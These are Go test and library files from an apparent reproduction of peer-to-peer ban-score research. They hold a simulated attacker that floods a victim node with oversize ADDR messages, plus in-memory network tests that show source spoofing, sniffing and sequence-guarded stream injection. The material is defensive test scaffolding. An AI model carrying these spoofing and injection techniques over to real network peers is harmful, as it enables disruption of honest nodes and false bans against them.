	me := wire.NewNetAddressIPPort(net.IPv4(10, 0, 9, 1), 4001, wire.SFNodeNetwork)
	you := wire.NewNetAddressIPPort(net.IPv4(10, 0, 0, 1), 8333, wire.SFNodeNetwork)
	v := wire.NewMsgVersion(me, you, 0xf100d, 0)
	if _, err := wire.WriteMessage(conn, v, wire.ProtocolVersion, wire.SimNet); err != nil {
		return err
	}
	for {
		msg, _, err := wire.ReadMessage(conn, wire.ProtocolVersion, wire.SimNet)
		if err != nil {
			return err
		}
		if _, ok := msg.(*wire.MsgVerAck); ok {
			break
		}
	}
	_, err := wire.WriteMessage(conn, &wire.MsgVerAck{}, wire.ProtocolVersion, wire.SimNet)
	return err
}
