package chaos

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"runtime"
	"testing"
	"time"

	"banscore/internal/attack"
	"banscore/internal/blockchain"
	"banscore/internal/core"
	"banscore/internal/simnet"
	"banscore/internal/trace"
	"banscore/internal/wire"
)

// httpJSON performs an in-process request against the cluster's telemetry
// handler and decodes the JSON response into out.
func httpJSON(t *testing.T, cl *Cluster, path string, out any) int {
	t.Helper()
	rec := httptest.NewRecorder()
	cl.Server.Handler().ServeHTTP(rec, httptest.NewRequest("GET", path, nil))
	if err := json.Unmarshal(rec.Body.Bytes(), out); err != nil {
		t.Fatalf("GET %s: bad JSON: %v\n%s", path, err, rec.Body.String())
	}
	return rec.Code
}

// runPacedAttacker drives oversize-ADDR connections against the victim,
// pacing on the forensic ledger: the next message goes out only after the
// previous one has landed a record (or a grace period expires). Pacing is
// what makes the reset injection deterministic — an unpaced attacker can
// stuff the socket buffer past the reset budget before the victim has
// parsed a single message, and the reset discards everything unread.
// The ledger is the right pacing signal because it is monotonic: tracker
// scores reset on every disconnect, the audit trail never does.
func runPacedAttacker(cl *Cluster, quit chan struct{}, done chan struct{}) {
	defer close(done)
	forge := attack.NewForge(blockchain.SimNetParams())
	id := core.PeerIDFromAddr(attackerAddr)
	stopping := func() bool {
		select {
		case <-quit:
			return true
		default:
			return cl.Victim.Tracker().IsBanned(id)
		}
	}
	for !stopping() {
		conn, err := cl.Fabric.Dial(attackerAddr, VictimAddr)
		if err != nil {
			time.Sleep(20 * time.Millisecond)
			continue
		}
		attackPaced(cl, conn, forge, id, stopping)
		conn.Close()
		// Let the victim process the disconnect (Forget) before the next
		// identity-reusing connection, so every chain restarts at 20.
		time.Sleep(50 * time.Millisecond)
	}
}

func attackPaced(cl *Cluster, conn net.Conn, forge *attack.Forge, id core.PeerID, stopping func() bool) {
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	me := wire.NewNetAddressIPPort(net.IPv4(10, 0, 9, 9), 4747, wire.SFNodeNetwork)
	you := wire.NewNetAddressIPPort(net.IPv4(10, 0, 0, 1), 8333, wire.SFNodeNetwork)
	v := wire.NewMsgVersion(me, you, 0xbad000+attackerNonce.Add(1), 0)
	if _, err := wire.WriteMessage(conn, v, wire.ProtocolVersion, wire.SimNet); err != nil {
		return
	}
	for {
		msg, _, err := wire.ReadMessage(conn, wire.ProtocolVersion, wire.SimNet)
		if err != nil {
			return
		}
		if _, ok := msg.(*wire.MsgVerAck); ok {
			break
		}
	}
	if _, err := wire.WriteMessage(conn, &wire.MsgVerAck{}, wire.ProtocolVersion, wire.SimNet); err != nil {
		return
	}
	for i := 0; i < 8 && !stopping(); i++ {
		before := len(cl.Forensics.Records(id))
		if _, err := wire.WriteMessage(conn, forge.OversizeAddr(), wire.ProtocolVersion, wire.SimNet); err != nil {
			return
		}
		for j := 0; j < 200 && !stopping(); j++ {
			if len(cl.Forensics.Records(id)) > before {
				break
			}
			time.Sleep(5 * time.Millisecond)
		}
	}
}

// TestForensicsUnderChaos is the audit-trail proof: an attacker hammers the
// victim with oversize ADDR bursts over a link that hard-resets every
// connection mid-burst, so score chains are repeatedly severed (disconnect
// resets the tracker score) before the link heals and the ban finally lands.
// The forensic ledger must hold the complete record — the partial chains AND
// the exact five-step 20/40/60/80/100 sequence that banned the attacker —
// served over /debug/bans/<peer>, with every record carrying a trace ID that
// resolves to lifecycle spans and a Chrome trace export that parses.
func TestForensicsUnderChaos(t *testing.T) {
	baseline := runtime.NumGoroutine()
	cl, err := NewCluster(Config{HonestPeers: 2, TraceSampleN: 1})
	if err != nil {
		t.Fatal(err)
	}
	defer cl.Close()
	if err := cl.ConnectAll(); err != nil {
		t.Fatal(err)
	}

	// Size the reset budget off one framed oversize ADDR: each attack
	// connection completes its handshake, lands two scored messages, and is
	// reset during the third — the ban threshold (five messages) is
	// unreachable until the link heals.
	forge := attack.NewForge(blockchain.SimNetParams())
	msgBytes, err := wire.WriteMessage(io.Discard, forge.OversizeAddr(), wire.ProtocolVersion, wire.SimNet)
	if err != nil {
		t.Fatal(err)
	}
	cl.Fabric.SetLinkFaultsBoth("10.0.9.9", "10.0.0.1", &simnet.FaultPlan{
		ResetAfterBytes: int64(2*msgBytes + msgBytes/2 + 2048), Seed: 0xfacade,
	})

	id := core.PeerIDFromAddr(attackerAddr)
	attackQuit, attackDone := make(chan struct{}), make(chan struct{})
	go runPacedAttacker(cl, attackQuit, attackDone)
	defer func() { close(attackQuit); <-attackDone }()

	// Generous deadlines: under `go test ./...` this package shares the
	// host with the experiment suite, and the attacker loop crawls when
	// starved of CPU.
	waitFor(t, 120*time.Second, "score chains severed by injected resets", func() bool {
		fs := cl.Fabric.FaultStats()
		return fs.ConnsReset >= 2 && len(cl.Forensics.Records(id)) >= 2 &&
			!cl.Victim.Tracker().IsBanned(id)
	})

	// Heal the link: the next connection survives all five messages.
	cl.Fabric.SetLinkFaultsBoth("10.0.9.9", "10.0.0.1", nil)
	waitFor(t, 120*time.Second, "attacker banned after heal", func() bool {
		return cl.Victim.Tracker().IsBanned(id)
	})
	<-attackDone

	// --- The ledger holds the full history: severed partial chains, then
	// the exact rule sequence that banned the attacker.
	records := cl.Forensics.Records(id)
	if len(records) < 7 {
		t.Fatalf("ledger holds %d records, want >=7 (severed chains + banning chain)", len(records))
	}
	for i, r := range records {
		if r.RuleID != core.AddrOversize || r.Rule != "AddrOversize" {
			t.Errorf("record %d: rule %s (%d), want AddrOversize", i, r.Rule, r.RuleID)
		}
		if r.Delta != 20 {
			t.Errorf("record %d: delta %d, want 20", i, r.Delta)
		}
		if r.Command != "addr" {
			t.Errorf("record %d: command %q, want addr", i, r.Command)
		}
		if r.TraceID == 0 {
			t.Errorf("record %d: no trace ID at 1-in-1 sampling", i)
		}
		if r.Seq != uint64(i+1) {
			t.Errorf("record %d: seq %d, want %d", i, r.Seq, i+1)
		}
		// Scores accumulate in 20s within a connection and reset to 20
		// when a severed connection forgot the peer.
		if i > 0 && r.Score != records[i-1].Score+20 && r.Score != 20 {
			t.Errorf("record %d: score %d after %d", i, r.Score, records[i-1].Score)
		}
		if r.Banned != (i == len(records)-1) {
			t.Errorf("record %d: banned=%v", i, r.Banned)
		}
	}
	for i, want := range []int{20, 40, 60, 80, 100} {
		if got := records[len(records)-5+i].Score; got != want {
			t.Errorf("banning chain step %d: score %d, want %d", i, got, want)
		}
	}

	// --- /debug/bans/<peer> serves that chain.
	var peerDoc struct {
		Peer            string           `json:"peer"`
		CurrentlyBanned *bool            `json:"currently_banned"`
		Records         []core.BanRecord `json:"records"`
	}
	if code := httpJSON(t, cl, "/debug/bans/"+attackerAddr, &peerDoc); code != http.StatusOK {
		t.Fatalf("/debug/bans/%s: HTTP %d", attackerAddr, code)
	}
	if peerDoc.Peer != attackerAddr || len(peerDoc.Records) != len(records) {
		t.Errorf("/debug/bans/<peer>: peer=%q records=%d, want %q/%d",
			peerDoc.Peer, len(peerDoc.Records), attackerAddr, len(records))
	}
	if peerDoc.CurrentlyBanned == nil || !*peerDoc.CurrentlyBanned {
		t.Error("/debug/bans/<peer>: currently_banned not true")
	}

	var index struct {
		Total uint64 `json:"total"`
		Peers []struct {
			Peer   string `json:"peer"`
			Banned bool   `json:"banned"`
		} `json:"peers"`
	}
	if code := httpJSON(t, cl, "/debug/bans", &index); code != http.StatusOK {
		t.Fatalf("/debug/bans: HTTP %d", code)
	}
	found := false
	for _, p := range index.Peers {
		found = found || (p.Peer == attackerAddr && p.Banned)
	}
	if !found || index.Total < uint64(len(records)) {
		t.Errorf("/debug/bans index missing banned attacker: %+v", index)
	}

	var errDoc map[string]any
	if code := httpJSON(t, cl, "/debug/bans/10.9.9.9:1", &errDoc); code != http.StatusNotFound {
		t.Errorf("/debug/bans/<unknown>: HTTP %d, want 404", code)
	}

	// --- Every ledger record's trace ID resolves to lifecycle spans: the
	// banning blow is traceable wire decode → dispatch → misbehavior.
	banTrace := records[len(records)-1].TraceID
	var q struct {
		Enabled bool         `json:"enabled"`
		Spans   []trace.Span `json:"spans"`
	}
	if code := httpJSON(t, cl, fmt.Sprintf("/debug/trace?trace=%d", banTrace), &q); code != http.StatusOK {
		t.Fatalf("/debug/trace: HTTP %d", code)
	}
	stages := map[trace.Stage]bool{}
	for _, sp := range q.Spans {
		if sp.TraceID != banTrace {
			t.Errorf("trace filter leaked span %+v", sp)
		}
		stages[sp.Stage] = true
	}
	for _, want := range []trace.Stage{trace.StageWireDecode, trace.StageHandle, trace.StageMisbehave} {
		if !stages[want] {
			t.Errorf("banning trace %d missing %s span (got %v)", banTrace, want, stages)
		}
	}

	// --- /debug/trace/export is valid Chrome trace-event JSON.
	rec := httptest.NewRecorder()
	cl.Server.Handler().ServeHTTP(rec, httptest.NewRequest("GET", "/debug/trace/export", nil))
	if rec.Code != http.StatusOK {
		t.Fatalf("/debug/trace/export: HTTP %d", rec.Code)
	}
	var doc struct {
		DisplayTimeUnit string `json:"displayTimeUnit"`
		TraceEvents     []struct {
			Name string         `json:"name"`
			Ph   string         `json:"ph"`
			Ts   float64        `json:"ts"`
			Pid  int            `json:"pid"`
			Args map[string]any `json:"args"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &doc); err != nil {
		t.Fatalf("trace export is not valid JSON: %v", err)
	}
	if doc.DisplayTimeUnit != "ms" || len(doc.TraceEvents) == 0 {
		t.Fatalf("trace export: unit=%q events=%d", doc.DisplayTimeUnit, len(doc.TraceEvents))
	}
	sawMisbehave := false
	for _, ev := range doc.TraceEvents {
		if ev.Ph != "X" && ev.Ph != "M" {
			t.Fatalf("trace export: unexpected phase %q", ev.Ph)
		}
		if ev.Ph == "X" && (ev.Ts < 0 || ev.Pid != 1) {
			t.Fatalf("trace export: bad complete event %+v", ev)
		}
		if ev.Name == string(trace.StageMisbehave) && ev.Args["rule"] == "AddrOversize" {
			sawMisbehave = true
		}
	}
	if !sawMisbehave {
		t.Error("trace export holds no misbehave event for AddrOversize")
	}

	// Bans stayed surgical through the chaos, and nothing leaked.
	if got := cl.Victim.Tracker().BanList().Count(); got != 1 {
		t.Errorf("ban list holds %d identifiers, want 1", got)
	}
	cl.Close()
	if n, ok := WaitGoroutines(baseline+3, 10*time.Second); !ok {
		t.Errorf("goroutines leaked: baseline %d, now %d", baseline, n)
	}
}
