package simnet

import (
	"bytes"
	"errors"
	"io"
	"net"
	"sync"
	"testing"
	"time"
)

func TestListenDialReadWrite(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	l, err := n.Listen("10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}

	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		conn, err := l.Accept()
		if err != nil {
			t.Errorf("Accept: %v", err)
			return
		}
		defer conn.Close()
		buf := make([]byte, 5)
		if _, err := io.ReadFull(conn, buf); err != nil {
			t.Errorf("server read: %v", err)
			return
		}
		if _, err := conn.Write(bytes.ToUpper(buf)); err != nil {
			t.Errorf("server write: %v", err)
		}
	}()

	client, err := n.Dial("10.0.0.2:50001", "10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}
	defer client.Close()
	if _, err := client.Write([]byte("hello")); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 5)
	if _, err := io.ReadFull(client, buf); err != nil {
		t.Fatal(err)
	}
	if string(buf) != "HELLO" {
		t.Errorf("echo = %q", buf)
	}
	wg.Wait()
}

func TestConnAddrs(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	l, _ := n.Listen("10.0.0.1:8333")
	done := make(chan net.Conn, 1)
	go func() {
		c, _ := l.Accept()
		done <- c
	}()
	client, err := n.Dial("10.0.0.2:50001", "10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}
	server := <-done
	if client.LocalAddr().String() != "10.0.0.2:50001" || client.RemoteAddr().String() != "10.0.0.1:8333" {
		t.Errorf("client addrs = %v -> %v", client.LocalAddr(), client.RemoteAddr())
	}
	if server.LocalAddr().String() != "10.0.0.1:8333" || server.RemoteAddr().String() != "10.0.0.2:50001" {
		t.Errorf("server addrs = %v -> %v", server.LocalAddr(), server.RemoteAddr())
	}
	if client.LocalAddr().Network() != "simnet" {
		t.Error("network name")
	}
}

func TestDialErrors(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	if _, err := n.Dial("a:1", "nobody:9"); !errors.Is(err, ErrConnRefused) {
		t.Errorf("dial to nowhere = %v", err)
	}
	if _, err := n.Listen("10.0.0.1:8333"); err != nil {
		t.Fatal(err)
	}
	if _, err := n.Listen("10.0.0.1:8333"); !errors.Is(err, ErrAddrInUse) {
		t.Errorf("double listen = %v", err)
	}
}

func TestSpoofedSourceAccepted(t *testing.T) {
	// The fabric performs no source validation: dialing with an arbitrary
	// source identity must succeed — the basis of Sybil and spoofing.
	n := NewNetwork()
	defer n.Close()
	l, _ := n.Listen("10.0.0.1:8333")
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	for _, spoofed := range []string{"10.0.0.3:50001", "10.0.0.3:50002", "203.0.113.7:49152"} {
		conn, err := n.Dial(spoofed, "10.0.0.1:8333")
		if err != nil {
			t.Errorf("spoofed dial from %s: %v", spoofed, err)
			continue
		}
		conn.Close()
	}
}

func TestCloseUnblocksReader(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	l, _ := n.Listen("10.0.0.1:8333")
	go func() {
		c, _ := l.Accept()
		time.Sleep(10 * time.Millisecond)
		c.Close()
	}()
	client, err := n.Dial("10.0.0.2:1", "10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 1)
	_, err = client.Read(buf)
	if err != io.EOF {
		t.Errorf("read after close = %v, want EOF", err)
	}
}

func TestReadDeadline(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	l, _ := n.Listen("10.0.0.1:8333")
	go func() {
		c, _ := l.Accept()
		_ = c // hold open, send nothing
	}()
	client, err := n.Dial("10.0.0.2:1", "10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}
	if err := client.SetReadDeadline(time.Now().Add(20 * time.Millisecond)); err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	_, err = client.Read(make([]byte, 1))
	var nerr net.Error
	if !errors.As(err, &nerr) || !nerr.Timeout() {
		t.Fatalf("deadline read = %v, want timeout net.Error", err)
	}
	if time.Since(start) > time.Second {
		t.Error("deadline wait too long")
	}
	// Clearing the deadline allows reads again.
	if err := client.SetReadDeadline(time.Time{}); err != nil {
		t.Fatal(err)
	}
}

func TestWriteAfterCloseFails(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	l, _ := n.Listen("10.0.0.1:8333")
	go func() {
		c, _ := l.Accept()
		_ = c
	}()
	client, err := n.Dial("10.0.0.2:1", "10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}
	client.Close()
	if _, err := client.Write([]byte("x")); err == nil {
		t.Error("write after close succeeded")
	}
}

func TestBandwidthAccounting(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	l, _ := n.Listen("10.0.0.1:8333")
	go func() {
		c, _ := l.Accept()
		_ = c
	}()
	client, err := n.Dial("10.0.0.2:1", "10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}
	payload := make([]byte, 100)
	for i := 0; i < 7; i++ {
		if _, err := client.Write(payload); err != nil {
			t.Fatal(err)
		}
	}
	if got := n.BytesDelivered("10.0.0.1:8333"); got != 700 {
		t.Errorf("BytesDelivered = %d, want 700", got)
	}
	if got := n.PacketsDelivered("10.0.0.1:8333"); got != 7 {
		t.Errorf("PacketsDelivered = %d, want 7", got)
	}
	n.ResetCounters()
	if n.BytesDelivered("10.0.0.1:8333") != 0 {
		t.Error("ResetCounters failed")
	}
}

func TestSnifferCapturesAndTracksSeq(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	l, _ := n.Listen("10.0.0.1:8333")
	serverUp := make(chan net.Conn, 1)
	go func() {
		c, _ := l.Accept()
		serverUp <- c
	}()

	sniffer := n.NewSniffer(func(from, to Addr) bool {
		return to == "10.0.0.1:8333" || from == "10.0.0.1:8333"
	})
	defer sniffer.Close()

	client, err := n.Dial("10.0.0.2:1", "10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}
	<-serverUp
	if _, err := client.Write([]byte("abc")); err != nil {
		t.Fatal(err)
	}
	if _, err := client.Write([]byte("defg")); err != nil {
		t.Fatal(err)
	}

	seg1 := <-sniffer.C()
	if string(seg1.Data) != "abc" || seg1.Seq != 0 || seg1.From != "10.0.0.2:1" {
		t.Errorf("segment 1 = %+v", seg1)
	}
	seg2 := <-sniffer.C()
	if string(seg2.Data) != "defg" || seg2.Seq != 3 {
		t.Errorf("segment 2 = %+v", seg2)
	}
	if got := sniffer.NextSeq("10.0.0.2:1", "10.0.0.1:8333"); got != 7 {
		t.Errorf("NextSeq = %d, want 7", got)
	}
}

func TestSnifferFilterExcludes(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	l, _ := n.Listen("10.0.0.1:8333")
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			_ = c
		}
	}()
	sniffer := n.NewSniffer(func(from, to Addr) bool { return from == "10.0.0.9:1" })
	defer sniffer.Close()
	client, _ := n.Dial("10.0.0.2:1", "10.0.0.1:8333")
	client.Write([]byte("not captured"))
	select {
	case seg := <-sniffer.C():
		t.Errorf("filtered segment captured: %+v", seg)
	case <-time.After(20 * time.Millisecond):
	}
}

func TestInjectRequiresCorrectSeq(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	l, _ := n.Listen("10.0.0.1:8333")
	serverUp := make(chan net.Conn, 1)
	go func() {
		c, _ := l.Accept()
		serverUp <- c
	}()

	sniffer := n.NewSniffer(nil)
	defer sniffer.Close()

	innocent, err := n.Dial("10.0.0.3:50001", "10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}
	server := <-serverUp
	if _, err := innocent.Write([]byte("legit")); err != nil {
		t.Fatal(err)
	}
	// Drain the legit bytes at the server.
	buf := make([]byte, 5)
	if _, err := io.ReadFull(server, buf); err != nil {
		t.Fatal(err)
	}

	// Wrong sequence number: discarded like an out-of-window segment.
	err = n.Inject("10.0.0.3:50001", "10.0.0.1:8333", 0, []byte("spoof"))
	if !errors.Is(err, ErrSeqMismatch) {
		t.Fatalf("stale-seq inject = %v, want ErrSeqMismatch", err)
	}

	// Correct sequence learned from the sniffer: injection succeeds and
	// the victim reads bytes it believes came from the innocent peer.
	seq := sniffer.NextSeq("10.0.0.3:50001", "10.0.0.1:8333")
	if seq != 5 {
		t.Fatalf("sniffer seq = %d, want 5", seq)
	}
	if err := n.Inject("10.0.0.3:50001", "10.0.0.1:8333", seq, []byte("spoof")); err != nil {
		t.Fatal(err)
	}
	buf = make([]byte, 5)
	if _, err := io.ReadFull(server, buf); err != nil {
		t.Fatal(err)
	}
	if string(buf) != "spoof" {
		t.Errorf("victim read %q", buf)
	}
}

func TestInjectUnknownConnection(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	err := n.Inject("a:1", "b:2", 0, []byte("x"))
	if !errors.Is(err, ErrConnNotFound) {
		t.Errorf("inject without conn = %v", err)
	}
}

func TestFindConn(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	l, _ := n.Listen("10.0.0.1:8333")
	go func() {
		c, _ := l.Accept()
		_ = c
	}()
	client, err := n.Dial("10.0.0.2:1", "10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := n.FindConn("10.0.0.1:8333", "10.0.0.2:1"); err != nil {
		t.Errorf("FindConn server endpoint: %v", err)
	}
	client.Close()
	// Closing removes both endpoints.
	time.Sleep(5 * time.Millisecond)
	if _, err := n.FindConn("10.0.0.2:1", "10.0.0.1:8333"); err == nil {
		t.Error("closed conn still findable")
	}
}

func TestNetworkCloseShutsEverything(t *testing.T) {
	n := NewNetwork()
	l, _ := n.Listen("10.0.0.1:8333")
	go func() {
		c, _ := l.Accept()
		_ = c
	}()
	client, err := n.Dial("10.0.0.2:1", "10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}
	n.Close()
	if _, err := client.Read(make([]byte, 1)); err != io.EOF {
		t.Errorf("read after network close = %v", err)
	}
	if _, err := n.Dial("x:1", "10.0.0.1:8333"); err == nil {
		t.Error("dial after close succeeded")
	}
	if _, err := n.Listen("y:1"); !errors.Is(err, ErrNetClosed) {
		t.Errorf("listen after close = %v", err)
	}
}

func TestPacketHostProcessesDatagrams(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	host := n.NewPacketHost("10.0.0.1")
	defer host.Close()
	payload := make([]byte, 64)
	for i := 0; i < 1000; i++ {
		if !n.SendPacket(host, "198.51.100.1", payload) {
			t.Fatal("packet dropped with empty queue")
		}
	}
	deadline := time.Now().Add(2 * time.Second)
	for host.Processed() < 1000 && time.Now().Before(deadline) {
		time.Sleep(time.Millisecond)
	}
	if got := host.Processed(); got != 1000 {
		t.Errorf("Processed = %d, want 1000", got)
	}
	if got := host.Bytes(); got != 64000 {
		t.Errorf("Bytes = %d, want 64000", got)
	}
	if got := n.BytesDelivered("10.0.0.1"); got != 64000 {
		t.Errorf("fabric bytes = %d, want 64000", got)
	}
}

func TestSendSeqTracksWrites(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	l, _ := n.Listen("10.0.0.1:8333")
	go func() {
		c, _ := l.Accept()
		_ = c
	}()
	client, err := n.Dial("10.0.0.2:1", "10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}
	client.Write([]byte("12345"))
	if got := client.SendSeq(); got != 5 {
		t.Errorf("SendSeq = %d, want 5", got)
	}
}

func TestConcurrentWritersSafe(t *testing.T) {
	n := NewNetwork()
	defer n.Close()
	l, _ := n.Listen("10.0.0.1:8333")
	serverUp := make(chan net.Conn, 1)
	go func() {
		c, _ := l.Accept()
		serverUp <- c
	}()
	client, err := n.Dial("10.0.0.2:1", "10.0.0.1:8333")
	if err != nil {
		t.Fatal(err)
	}
	server := <-serverUp

	const writers, each = 8, 100
	var wg sync.WaitGroup
	for i := 0; i < writers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < each; j++ {
				client.Write([]byte("x"))
			}
		}()
	}
	wg.Wait()
	buf := make([]byte, writers*each)
	if _, err := io.ReadFull(server, buf); err != nil {
		t.Fatal(err)
	}
}
