// Package simnet provides the in-memory network substrate of the
// reproduction: addressed, net.Conn-compatible byte streams with the three
// attacker capabilities the paper's threat models assume in a permissionless
// network — source-address spoofing (pre-connection Defamation), promiscuous
// sniffing, and sequence-guarded mid-stream injection (post-connection
// Defamation) — plus an ICMP-like network-layer fast path used by the
// flooding comparison (Table III / Fig. 7) and a deterministic fault layer
// (latency, loss, resets, partitions — see FaultPlan) for chaos testing.
// The node itself is transport agnostic: it accepts any net.Listener, so it
// runs identically on real TCP.
package simnet

import (
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"banscore/internal/trace"
)

// ErrDeadlineExceeded is returned on read/write deadline expiry. It matches
// os.ErrDeadlineExceeded via errors.Is through net.Error semantics.
var ErrDeadlineExceeded error = &timeoutError{}

type timeoutError struct{}

func (*timeoutError) Error() string   { return "simnet: i/o deadline exceeded" }
func (*timeoutError) Timeout() bool   { return true }
func (*timeoutError) Temporary() bool { return true }

// ErrConnReset is surfaced by reads and writes on a connection torn down by
// an injected reset (FaultPlan.ResetAfterBytes) — the simulation of a TCP
// RST. Unlike a graceful close, buffered data is discarded.
var ErrConnReset = errors.New("simnet: connection reset by peer")

// pipeBufferCap models the kernel socket buffer: a writer whose peer does
// not drain blocks once this many bytes are queued, exactly the flow
// control that paces a real flooding attacker to its victim's consumption
// rate. A single write larger than the cap is still accepted whole once the
// buffer drains below the cap (bounded overshoot, no deadlock).
const pipeBufferCap = 4 * 1024 * 1024

// pipeHalf is one direction of a stream: a bounded in-memory byte queue.
type pipeHalf struct {
	mu       sync.Mutex
	cond     *sync.Cond
	buf      []byte
	closed   bool
	closeErr error // non-nil for hard closes (reset); nil means EOF
	rdl      time.Time
	wdl      time.Time
	// seq counts bytes ever enqueued: the simulation's TCP sequence
	// number. Injection must match it (see Conn.inject).
	seq uint64

	// onData fires after bytes are enqueued or the half closes; onRoom
	// fires after a read frees buffer space or the half closes. Both run
	// with mu released so they may re-enter the half (e.g. an event-loop
	// shard enqueueing the connection takes shard locks; the required
	// ordering is pipeHalf.mu before shard locks, never the reverse).
	// Callbacks are edge signals, not level state: a registrant must
	// re-check buffered()/space() itself after waking.
	onData func()
	onRoom func()
}

func newPipeHalf() *pipeHalf {
	h := &pipeHalf{}
	h.cond = sync.NewCond(&h.mu)
	return h
}

// writeErr is what a write into a closed half returns.
func (h *pipeHalf) writeErr() error {
	if h.closeErr != nil {
		return h.closeErr
	}
	return io.ErrClosedPipe
}

// write enqueues p, blocking while the buffer is at capacity. It fails
// after close or when the write deadline expires while blocked.
func (h *pipeHalf) write(p []byte) (int, error) {
	h.mu.Lock()
	for len(h.buf) >= pipeBufferCap {
		if h.closed {
			err := h.writeErr()
			h.mu.Unlock()
			return 0, err
		}
		wdl := h.wdl
		if !wdl.IsZero() {
			now := clk.Now()
			if !now.Before(wdl) {
				h.mu.Unlock()
				return 0, ErrDeadlineExceeded
			}
			timer := clk.AfterFunc(wdl.Sub(now), h.cond.Broadcast)
			h.cond.Wait()
			timer.Stop()
			continue
		}
		h.cond.Wait()
	}
	if h.closed {
		err := h.writeErr()
		h.mu.Unlock()
		return 0, err
	}
	h.buf = append(h.buf, p...)
	h.seq += uint64(len(p))
	h.cond.Broadcast()
	cb := h.onData
	h.mu.Unlock()
	if cb != nil {
		cb()
	}
	return len(p), nil
}

// read dequeues into p, blocking until data, close, or deadline.
func (h *pipeHalf) read(p []byte) (int, error) {
	h.mu.Lock()
	for {
		if len(h.buf) > 0 {
			n := copy(p, h.buf)
			h.buf = h.buf[n:]
			if len(h.buf) == 0 {
				// Release the backing array so a drained flood
				// does not pin its high-water mark.
				h.buf = nil
			}
			h.cond.Broadcast() // wake writers waiting for room
			cb := h.onRoom
			h.mu.Unlock()
			if cb != nil {
				cb()
			}
			return n, nil
		}
		if h.closed {
			err := h.closeErr
			h.mu.Unlock()
			if err != nil {
				return 0, err
			}
			return 0, io.EOF
		}
		rdl := h.rdl
		if !rdl.IsZero() {
			now := clk.Now()
			if !now.Before(rdl) {
				h.mu.Unlock()
				return 0, ErrDeadlineExceeded
			}
			// Arrange a wake-up at the deadline.
			timer := clk.AfterFunc(rdl.Sub(now), h.cond.Broadcast)
			h.cond.Wait()
			timer.Stop()
			continue
		}
		h.cond.Wait()
	}
}

func (h *pipeHalf) close() { h.closeWithErr(nil, false) }

// closeWithErr closes the half. A non-nil err is surfaced to readers and
// writers instead of EOF/ErrClosedPipe; discard drops any buffered data the
// way a TCP RST does.
func (h *pipeHalf) closeWithErr(err error, discard bool) {
	h.mu.Lock()
	if h.closed {
		h.mu.Unlock()
		return
	}
	h.closed = true
	h.closeErr = err
	if discard {
		h.buf = nil
	}
	h.cond.Broadcast()
	data, room := h.onData, h.onRoom
	h.mu.Unlock()
	// Close is both a data event (readers must observe EOF/reset) and a
	// room event (blocked writers must observe the failure).
	if data != nil {
		data()
	}
	if room != nil {
		room()
	}
}

func (h *pipeHalf) setReadDeadline(t time.Time) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.rdl = t
	h.cond.Broadcast()
}

func (h *pipeHalf) setWriteDeadline(t time.Time) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.wdl = t
	h.cond.Broadcast()
}

func (h *pipeHalf) sequence() uint64 {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.seq
}

// buffered reports how many bytes can be read without blocking, and whether
// the half has been closed.
func (h *pipeHalf) buffered() (int, bool) {
	h.mu.Lock()
	defer h.mu.Unlock()
	return len(h.buf), h.closed
}

// peek copies up to len(p) buffered bytes without consuming them.
func (h *pipeHalf) peek(p []byte) int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return copy(p, h.buf)
}

// space reports how many bytes can be written without blocking (zero while
// the buffer holds a bounded overshoot), and whether the half is closed.
func (h *pipeHalf) space() (int, bool) {
	h.mu.Lock()
	defer h.mu.Unlock()
	s := pipeBufferCap - len(h.buf)
	if s < 0 {
		s = 0
	}
	return s, h.closed
}

func (h *pipeHalf) setOnData(fn func()) {
	h.mu.Lock()
	h.onData = fn
	h.mu.Unlock()
}

func (h *pipeHalf) setOnRoom(fn func()) {
	h.mu.Lock()
	h.onRoom = fn
	h.mu.Unlock()
}

// Addr is a simnet endpoint address.
type Addr string

// Network returns "simnet".
func (Addr) Network() string { return "simnet" }

// String returns the address.
func (a Addr) String() string { return string(a) }

var _ net.Addr = Addr("")

// Conn is one endpoint of a simnet stream.
type Conn struct {
	network *Network
	local   Addr
	remote  Addr

	// recv is the half this endpoint reads from; send is the half the
	// peer endpoint reads from.
	recv *pipeHalf
	send *pipeHalf

